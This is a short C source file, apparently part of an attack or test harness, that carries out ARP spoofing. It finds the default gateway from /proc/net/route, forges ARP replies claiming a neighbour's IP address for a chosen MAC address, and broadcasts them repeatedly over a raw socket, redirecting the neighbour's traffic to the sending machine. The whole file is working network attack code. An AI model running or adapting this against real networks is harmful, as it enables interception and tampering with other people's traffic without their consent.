/*
 * Who has this address? Whoever says "I have" is believed: ARP knows no proof (arp(7)). A box on a bridge that may make packets by hand
 * answers for its neighbours, and what was meant for them comes to it.
 */
#include "attack.h"
#include <arpa/inet.h>
#include <net/if.h>
#include <netinet/if_ether.h>
#include <netpacket/packet.h>
#include <sys/socket.h>

struct answer {
	struct ether_header frame;
	struct ether_arp arp;
};

/* The way out of the box: an interface, and the address of the bridge. */
static void way_out(char interface[IFNAMSIZ], struct in_addr *bridge)
{
	char line[256];
	unsigned destination;
	FILE *routes = fopen("/proc/net/route", "r");
	while (routes && fgets(line, sizeof line, routes))
		if (sscanf(line, "%15s %x %x", interface, &destination, &bridge->s_addr) == 3 && destination == 0)
			return;
	errno = ENETUNREACH;
	must(-1, "find the way out");
}

static struct answer answer_of(const char *hardware, in_addr_t whose, struct in_addr bridge)
{
	struct answer answer = { .frame.ether_type = htons(ETHERTYPE_ARP) };
	answer.arp.ea_hdr = (struct arphdr){ htons(ARPHRD_ETHER), htons(ETHERTYPE_IP), 6, 4, htons(ARPOP_REPLY) };
	for (int n = 0; n < 6; n++)
		answer.arp.arp_sha[n] = answer.frame.ether_shost[n] = strtoul(hardware + 3 * n, NULL, 16);
	memset(answer.frame.ether_dhost, 0xff, 6);
	memcpy(answer.arp.arp_spa, &whose, 4);
	memcpy(answer.arp.arp_tpa, &bridge, 4);
	return answer;
}

/* argv: how far the neighbour's address is from the bridge's, the hardware address that is to be believed. */
void arp_spoof(char **argv)
{
	char interface[IFNAMSIZ];
	struct in_addr bridge;
	usleep(200000); /* the host looks where we are */
	way_out(interface, &bridge);
	const in_addr_t neighbour = htonl(ntohl(bridge.s_addr) + atoi(argv[0]));
	const struct answer answer = answer_of(argv[1], neighbour, bridge);
	const struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_ifindex = if_nametoindex(interface), .sll_halen = 6 };
	const int line = must(socket(AF_PACKET, SOCK_RAW, 0), "make packets by hand");
	for (int n = 0; n < 50; n++, usleep(50000))
		must(sendto(line, &answer, sizeof answer, 0, (const struct sockaddr *)&to, sizeof to), "answer for a neighbour");
}
